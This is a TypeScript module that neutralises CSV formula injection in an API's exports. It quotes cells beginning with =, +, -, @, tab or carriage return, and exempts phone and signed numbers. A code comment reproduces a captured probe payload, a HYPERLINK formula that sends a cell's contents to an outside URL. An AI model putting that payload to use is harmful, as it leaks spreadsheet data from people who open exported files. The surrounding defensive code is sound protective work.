import type { Options } from 'csv-stringify/sync';

/**
 * What a spreadsheet program reads as a formula when it opens a CSV file: a cell beginning with
 * =, +, -, @, a tab or a carriage return (OWASP, "CSV Injection"). An outside probe stored an
 * organisation named `=HYPERLINK("http://…?x="&A1,"Klik her")` through createOrganisation (the
 * spreadsheet import refuses formula text, the GraphQL edits and the JSON import take any text),
 * and exportCsv handed it to Excel as a live formula that sends a cell's content away.
 */
const FORMULA_START = /^[=+\-@\t\r]/;

/** A phone number's stored form (+45 12 34 56 78) or a signed number: nothing a formula could call. */
const PLAIN_NUMBER = /^[+-][\d ().]*$/;

/**
 * A text cell as exported: with a leading `'` where a spreadsheet would run it, as csv-stringify's
 * own `escape_formulas` does, except a phone number or signed number, whose every export would
 * otherwise begin with a quote.
 */
export function spreadsheetSafe(value: string): string {
  return FORMULA_START.test(value) && !PLAIN_NUMBER.test(value) ? `'${value}` : value;
}

/** csv-stringify's options for every CSV the API writes (lists, gap reports, the access log). */
export const CSV_CELLS = { cast: { string: spreadsheetSafe } } satisfies Options;
